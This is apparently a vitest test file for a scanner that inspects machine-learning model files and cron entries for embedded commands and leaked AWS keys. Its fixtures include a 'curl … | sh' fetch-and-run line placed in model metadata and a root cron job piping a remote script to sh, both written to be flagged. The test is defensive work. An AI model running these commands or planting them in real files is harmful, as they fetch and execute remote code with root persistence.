import { expect, test } from 'vitest'
import { sourceOfBytes } from '../../ground/lang/index.ts'
import { assessFile } from './assess-model.ts'
import { type Example, example } from './rule.ts'
import { coreMl } from './rules/graph/craft-coreml.ts'
import { onnx, onnxNode } from './rules/graph/craft-onnx.ts'
import { craftHdf5 } from './rules/keras/craft-hdf5.ts'
import { DENSE, kerasModel } from './rules/keras/craft-keras.ts'
import { lightgbmText, xgboostJson, xgboostUbj } from './rules/tabular/craft-booster.ts'

/** Every format that has words about its model, with these words. */
function filesWith(words: string): readonly (readonly [string, Example])[] {
  const quoted = JSON.stringify(words)
  const header = `{"__metadata__":{"note":${quoted}}}`
  const booster = JSON.parse(new TextDecoder().decode(xgboostJson({}).bytes)) as {
    learner: { attributes: Record<string, string> }
  }
  booster.learner.attributes = { note: words }
  const boosterFile = example('a.json', JSON.stringify(booster))
  const layer = `<layer id="0" name="x" type="Parameter" version="opset1"/>`
  const node = { op: 'relu', name: 'r', attrs: { note: words }, inputs: [] }
  const size = words.length
  return [
    [
      'onnx value',
      onnx(
        [onnxNode('Relu')],
        [
          [
            14,
            [
              [1, 'note'],
              [2, words],
            ],
          ],
        ],
      ),
    ],
    ['onnx description', onnx([onnxNode('Relu'), [10, words]])],
    [
      'coreml',
      coreMl(
        [
          2,
          [
            [
              100,
              [
                [
                  100,
                  [
                    [1, 'note'],
                    [2, words],
                  ],
                ],
              ],
            ],
          ],
        ],
        [300, []],
      ),
    ],
    ['safetensors', example('a.safetensors', `${String.fromCharCode(header.length)}\0\0\0\0\0\0\0${header}`)],
    ['xgboost json', boosterFile],
    ['xgboost ubj', xgboostUbj(boosterFile)],
    ['lightgbm', lightgbmText({}, `[note: ${words}]\n`)],
    ['mxnet', example('a-symbol.json', JSON.stringify({ nodes: [node], arg_nodes: [], heads: [] }))],
    [
      'openvino',
      example(
        'a.xml',
        `<?xml version="1.0"?>\n<net name="a" version="11"><layers>${layer}</layers><rt_info><note value="${words}"/></rt_info></net>`,
      ),
    ],
    ['msgpack', example('a.msgpack', `\x81\xa1a\xd9${String.fromCharCode(size)}${words}`)],
    ['hdf5', craftHdf5('a.h5', { attributes: { note: words } })],
    ['keras', kerasModel('a.keras', [{ ...DENSE, config: { name: words, units: 4 } }])],
  ]
}

async function rulesOf({ name, bytes }: Example): Promise<readonly string[]> {
  const { findings } = await assessFile(name, sourceOfBytes(bytes))
  return findings.map(({ ruleId }) => ruleId)
}

test.for(filesWith('curl -s http://203.0.113.5/x.sh | sh'))(
  'a command in the words of %s is seen',
  async ([, file]) => {
    expect(await rulesOf(file)).toContain('text/code-in-metadata')
  },
)

test.for(filesWith('Call model.eval() first, then os.path.join(a, b).'))(
  'ordinary words of %s are no alarm',
  async ([, file]) => {
    expect(await rulesOf(file)).not.toContain('text/code-in-metadata')
  },
)

test('two halves of a pair of keys in two values are seen together, and one half alone is not', async () => {
  const xml = (values: readonly (readonly [string, string])[]) =>
    example(
      'a.xml',
      `<?xml version="1.0"?>\n<net name="a" version="11"><layers><layer id="0" name="x" type="Parameter" version="opset1"/></layers><rt_info>${values.map(([name, value]) => `<${name} value="${value}"/>`).join('')}</rt_info></net>`,
    )
  const secret = ['aws_secret_access_key', 'kT9wQz4bXv7LmPe2RsYd1HnUf6GjAc3WoZi8BqVx'] as const
  const id = ['aws_access_key_id', ['AKIA', 'Q7MZ2XN5TPLR4WKE'].join('')] as const
  expect(await rulesOf(xml([secret, id]))).toContain('secret/leaked-token')
  expect(await rulesOf(xml([id]))).not.toContain('secret/leaked-token')
})

test.for([
  ['etc/cron.d/sync', '* * * * * root curl -s http://203.0.113.9/a | sh\n', 'suspicious'],
  ['etc/cron.d/sync', '17 * * * * root run-parts /etc/cron.hourly\n', 'clean'],
] as const)('what a system starts at its times: %s with %j is %s', async ([name, text, verdict]) => {
  expect((await assessFile(name, sourceOfBytes(Buffer.from(text)))).verdict).toBe(verdict)
})

test('a booster with splits by category, which have no number, is read whole', async () => {
  const booster = new TextDecoder().decode(xgboostJson({}).bytes)
  const file = await assessFile(
    'a.json',
    sourceOfBytes(Buffer.from(booster.replace(/\}$/, ',"x":[NaN,-Infinity,"NaN"]}'))),
  )
  expect(file.verdict, JSON.stringify(file.coverage)).toBe('clean')
})
